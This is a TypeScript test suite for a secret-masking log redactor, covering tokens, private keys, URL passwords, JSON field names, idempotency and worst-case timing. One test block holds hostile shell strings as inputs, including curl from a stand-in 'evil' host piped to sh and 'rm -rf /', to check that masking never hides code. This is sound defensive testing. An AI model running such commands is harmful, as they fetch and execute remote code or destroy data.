import { createPrivateKey, generateKeyPairSync } from "node:crypto";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { maskJson, maskText } from "../../src/log/redact.ts";
import { SECRET_PATTERNS } from "../../src/log/secret-patterns.ts";

const maskKey = new Uint8Array(32).fill(7);
const text = (value: string): string => maskText(value, { maskKey }).value;
const logText = (value: string): string => maskText(value, { maskKey, assignments: true }).value;

// Made at run time, so that no scanner mistakes this file for a leak.
const r = (alphabet: string, length: number): string =>
  Array.from({ length }, (_, i) => alphabet[(i * 7 + 3) % alphabet.length]).join("");
const AN = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ0123456789";
const UP = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const b64 = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString("base64url");
const rsa = generateKeyPairSync("rsa", {
  modulusLength: 2048,
  privateKeyEncoding: { type: "pkcs8", format: "pem" },
  publicKeyEncoding: { type: "spki", format: "pem" },
});
const ec = generateKeyPairSync("ec", { namedCurve: "P-256" })
  .privateKey.export({ type: "sec1", format: "pem" })
  .toString();
const encrypted = createPrivateKey(rsa.privateKey)
  .export({ type: "pkcs1", format: "pem", cipher: "aes-128-cbc", passphrase: "x" })
  .toString();

const SECRETS: Record<string, string> = {
  "aws-key": `AKIA${r(UP, 16)}`,
  "github-token": `ghp_${r(AN, 36)}`,
  "gitlab-token": `glpat-${r(AN, 20)}`,
  "slack-token": `xoxb-${r("0123456789", 12)}-${r(AN, 24)}`,
  "stripe-key": `sk_live_${r(AN, 24)}`,
  "google-key": `AIza${r(AN, 35)}`,
  "google-token": `ya29.${r(AN, 60)}`,
  "anthropic-key": `sk-ant-api03-${r(AN, 90)}`,
  "openai-key": `sk-proj-${r(AN, 100)}`,
  "npm-token": `npm_${r(AN, 36)}`,
  "vault-token": `hvs.${r(AN, 40)}`,
  "sendgrid-key": `SG.${r(AN, 22)}.${r(AN, 43)}`,
  "digitalocean-token": `dop_v1_${r("0123456789abcdef", 64)}`,
  "huggingface-token": `hf_${r(AN, 34)}`,
  jwt: `${b64({ alg: "HS256", typ: "JWT" })}.${b64({ sub: "1" })}.${r(AN, 43)}`,
};

describe("tokens", () => {
  for (const [type, secret] of Object.entries(SECRETS)) {
    test(`${type} is masked wherever a token may stand`, () => {
      for (const [before, after] of [
        ["", ""],
        ["key=", "\n"],
        ['{"a":"', '"}'],
        ["x\\n", "\\n"],
        ["a%3D", "&b"],
        ["(", ")"],
        ["+", ""],
      ]) {
        const masked = text(`${before}${secret}${after}`);
        expect(masked).toMatch(new RegExp(`\\[masked:${type}:[0-9a-f]{4}\\]`));
        expect(masked).not.toContain(secret.slice(8));
        expect(masked.startsWith(before ?? "")).toBe(true);
        expect(masked.endsWith(after ?? "")).toBe(true);
      }
    });
  }

  test("every rule of the table is found through each of its prefixes or refuses the text by its own alphabet", () => {
    for (const pattern of SECRET_PATTERNS) {
      expect(pattern.body.sticky).toBe(true);
      for (const prefix of pattern.prefixes) expect(prefix.length).toBeGreaterThan(2);
    }
  });

  test("the older form of an OpenAI key is told from other words in sk-", () => {
    expect(text(`sk-${r(AN, 20)}T3BlbkFJ${r(AN, 20)}`)).toMatch(/^\[masked:openai-key:/);
    expect(text(`sk-${r(AN, 48)}`)).toBe(`sk-${r(AN, 48)}`);
  });

  test("a bearer header, basic credentials and the password of a URL lose the secret and keep the rest", () => {
    expect(text(`authorization: Bearer ${r(AN, 32)}`)).toMatch(
      /^authorization: Bearer \[masked:bearer:[0-9a-f]{4}\]$/,
    );
    expect(text(`Basic ${Buffer.from("ana:hunter2").toString("base64")}`)).toMatch(/^Basic \[masked:basic:/);
    expect(text("postgres://app:s3cr3t@db:5432/app")).toMatch(
      /^postgres:\/\/app:\[masked:url-password:[0-9a-f]{4}\]@db:5432\/app$/,
    );
    expect(text("see https://example.com:8080/a@b")).toBe("see https://example.com:8080/a@b");
    expect(text("a basic explanation of things: yes")).toBe("a basic explanation of things: yes");
  });

  test("private keys are masked whole: plain, escaped, on one line, in a diff, encrypted, cut off", () => {
    const forms = [
      rsa.privateKey,
      ec,
      encrypted,
      rsa.privateKey.replaceAll("\n", "\\n"),
      rsa.privateKey.replaceAll("\n", " "),
      rsa.privateKey.replaceAll("\n", "\r\n"),
      rsa.privateKey.replaceAll(/^/gm, "+"),
      rsa.privateKey.replaceAll(/^/gm, "-"),
      rsa.privateKey.slice(0, 900),
    ];
    const lines = [rsa.privateKey, ec, encrypted].flatMap((pem) =>
      pem.split("\n").filter((line) => /^[A-Za-z0-9+/]{30}/.test(line)),
    );
    for (const form of forms) {
      const masked = text(`before\n${form}\nafter`);
      expect(masked).toContain("[masked:private-key:");
      expect(masked).toContain("after");
      for (const line of lines) expect(masked.includes(line)).toBe(false);
    }
    expect(text(rsa.publicKey)).toBe(rsa.publicKey);
  });

  test("what only looks like a secret is left alone", () => {
    for (const plain of [
      "AKIAsomething",
      "xAKIAABCDEFGHIJKLMNOP",
      "eyJhbGciOi",
      "eyJub3Qi.eyJqc29u.abc",
      "ghp_short",
      "sk-learn",
      "hf_model",
      "0123456789abcdef0123456789abcdef01234567",
      "550e8400-e29b-41d4-a716-446655440000",
      "-----BEGIN CERTIFICATE-----",
      "a talk about -----BEGIN PRIVATE KEY----- headers",
      "npm_config_cache",
    ]) {
      expect(text(plain)).toBe(plain);
    }
  });
});

describe("a mask cannot be made to hide code (M4)", () => {
  test.each([
    "://a:$(curl${IFS}evil|sh)@",
    "-----BEGIN PRIVATE KEY-----\ncurl evil.example -o /tmp/x\nsh /tmp/x\n-----END PRIVATE KEY-----",
    "Bearer `rm -rf /`; require('child_process')",
    "password = execSync('rm -rf /')",
    "AccountKey=$(rm)",
  ])("%s is shown", (code) => {
    expect(text(code)).toBe(code);
  });
});

describe("JSON", () => {
  test("a member is masked by its name, whatever it looks like and however the name is written", () => {
    const value = {
      password: "x",
      api_key: 12,
      "API-Key": ["a", { b: "c" }],
      nested: { dbPassword: "p", name: "web" },
      token: null,
      secret: true,
      nextToken: "page-2",
      tokens: 3,
      authorization: "anything at all",
      clientSecret: "",
    };
    const masked = maskJson(value, { maskKey });
    expect(masked.value).toEqual({
      password: expect.stringMatching(/^\[masked:field:/),
      api_key: expect.stringMatching(/^\[masked:field:/),
      "API-Key": [expect.stringMatching(/^\[masked/), { b: expect.stringMatching(/^\[masked/) }],
      nested: { dbPassword: expect.stringMatching(/^\[masked/), name: "web" },
      token: null,
      secret: true,
      nextToken: "page-2",
      tokens: 3,
      authorization: expect.stringMatching(/^\[masked/),
      clientSecret: "",
    });
    expect(masked.masked).toBe(6);
    expect(masked.types).toEqual({ field: 6 });
    expect(value.password).toBe("x");
  });

  test.each([
    "dsn",
    "DB_URL",
    "mytoken",
    "my-To.Ken_",
    // The Kelvin sign is a k in lower case.
    "to\u212aen",
    "secre\u00e9t",
    "awsSecretAccessKey",
    "AZURE_ACCOUNT_KEY",
    "access_key_id",
  ])("the name %s is one under which secrets are kept", (name) => {
    expect(maskJson({ [name]: "x" }, { maskKey }).masked).toBe(1);
  });

  test.each(["dsns", "tokens", "tokenized", "secretary", "idempotency-token", "keys", "passwordless", ""])(
    "the name %s is none",
    (name) => {
      expect(maskJson({ [name]: "x" }, { maskKey }).masked).toBe(0);
    },
  );

  test("further names come from the policy, and names can be left out of it", () => {
    expect(maskJson({ SSN: "1" }, { maskKey, keys: ["ssn"] }).masked).toBe(1);
    expect(maskJson({ counts: { access_token: 2 } }, { maskKey, byName: false }).value).toEqual({
      counts: { access_token: 2 },
    });
  });

  test("member names that are secrets are masked and never swallow each other", () => {
    const keys = Array.from({ length: 400 }, (_, i) => `ghp_${r(AN, 32)}${String(i).padStart(4, "0")}`);
    const masked = maskJson(Object.fromEntries(keys.map((key, i) => [key, i])), { maskKey }).value;
    expect(Object.keys(masked as object)).toHaveLength(400);
    expect(JSON.stringify(masked)).not.toContain("ghp_");
  });

  test("what holds no secret comes back itself, and what holds one is copied and left as it was", () => {
    const plain = { name: "web", list: [1, { deep: "nothing to see" }], none: null };
    expect(maskJson(plain, { maskKey }).value).toBe(plain);
    const given = { first: plain, list: ["a", { password: "x" }, "b"], last: 1 };
    const text = JSON.stringify(given);
    const { value } = maskJson(given, { maskKey });
    expect(JSON.stringify(value)).toMatch(
      /^\{"first":\{.*\},"list":\["a",\{"password":"\[masked:field:[0-9a-f]{4}\]"\},"b"\],"last":1\}$/,
    );
    expect(JSON.stringify(given)).toBe(text);
  });

  test("__proto__ stays a member and changes no prototype", () => {
    const masked = maskJson(JSON.parse('{"__proto__":{"password":"x"}}'), { maskKey }).value;
    expect(JSON.stringify(masked)).toMatch(/^\{"__proto__":\{"password":"\[masked:field:[0-9a-f]{4}\]"\}\}$/);
    expect(({} as Record<string, unknown>)["password"]).toBeUndefined();
  });
});

describe("running text of logs and errors", () => {
  test("names count there where it is asked for", () => {
    expect(logText("DB_PASSWORD=hunter2 port=1")).toMatch(
      /^DB_PASSWORD=\[masked:field:[0-9a-f]{4}\] port=1$/,
    );
    expect(logText('{"apiKey": "a b c", "port": 1}')).toMatch(
      /^\{"apiKey": "\[masked:field:[0-9a-f]{4}\]", "port": 1\}$/,
    );
    expect(text("DB_PASSWORD=hunter2")).toBe("DB_PASSWORD=hunter2");
    expect(logText("nextToken=abc x=y")).toBe("nextToken=abc x=y");
  });
});

test("equal secrets get equal masks under one key, other masks under another (M1)", () => {
  const secret = SECRETS["aws-key"] as string;
  const twice = text(`${secret} ${secret}`).split(" ");
  expect(twice[0]).toBe(twice[1]);
  const hashes = new Set(
    Array.from({ length: 20 }, (_, i) => maskText(secret, { maskKey: new Uint8Array(32).fill(i) }).value),
  );
  expect(hashes.size).toBeGreaterThan(15);
});

test("masking twice changes nothing (M3)", () => {
  const pieces = [
    ...Object.values(SECRETS),
    rsa.privateKey,
    "postgres://a:b@c",
    "password=",
    ": ",
    "\n",
    '"',
    "[masked:",
    "]",
    "x",
    " ",
    "Bearer ",
  ];
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 6 })), { maxLength: 12 }),
      (parts) => {
        const once = logText(parts.join(""));
        expect(logText(once)).toBe(once);
        const value = { [parts[0] ?? "a"]: parts, password: parts.join("") };
        const json = maskJson(value, { maskKey }).value;
        expect(maskJson(json, { maskKey }).value).toEqual(json);
      },
    ),
    { numRuns: 500 },
  );
});

test("a planted secret never survives in any surrounding", () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...Object.values(SECRETS)),
      fc.string(),
      fc.string(),
      (secret, before, after) => {
        const glued = /[A-Za-z0-9_-]$/.test(before) || /^[A-Za-z0-9_.+/=-]/.test(after);
        fc.pre(!glued);
        expect(text(before + secret + after)).not.toContain(secret);
      },
    ),
    { numRuns: 1_000 },
  );
});

describe("time is linear on the worst texts (M2)", () => {
  const repeat = (unit: string): string => unit.repeat(Math.ceil(1_000_000 / unit.length));
  const worst: Record<string, string> = {
    "every prefix in a row": repeat(SECRET_PATTERNS.flatMap((p) => p.prefixes).join("")),
    "every prefix as a token": repeat(SECRET_PATTERNS.flatMap((p) => p.prefixes).join(" ")),
    "jwt heads": repeat("eyJ"),
    "jwt heads as tokens": repeat("eyJaaaaaaaa."),
    "jwt with long parts": repeat(`eyJ${"a".repeat(4000)}.${"a".repeat(16000)}.`),
    "bearer bearer": repeat("bearer "),
    "url heads": repeat("://"),
    "url heads with colons": repeat("://a:"),
    "one long url": `://${"a:".repeat(500_000)}`,
    "pem heads": repeat("-----BEGIN PRIVATE KEY-----"),
    "pem with long lines": repeat(`-----BEGIN PRIVATE KEY----- ${"A".repeat(30_000)} `),
    "pem with short lines": repeat("-----BEGIN PRIVATE KEY-----\nAAAA\n"),
    "pem begins": repeat("-----BEGIN A A A A A A A A A A A A "),
    separators: repeat("="),
    "sensitive names": repeat("password=:"),
    "long names": repeat(`${"a".repeat(70)}=`),
    quotes: repeat('token="'),
    dashes: repeat("-"),
    slack: repeat("hooks.slack.com/services/"),
  };
  for (const [name, value] of Object.entries(worst)) {
    test(name, () => {
      const started = performance.now();
      logText(value);
      // A megabyte takes less than a second, on a machine at its limit several; a quadratic walk would take minutes.
      expect(performance.now() - started).toBeLessThan(20_000);
    });
  }
});
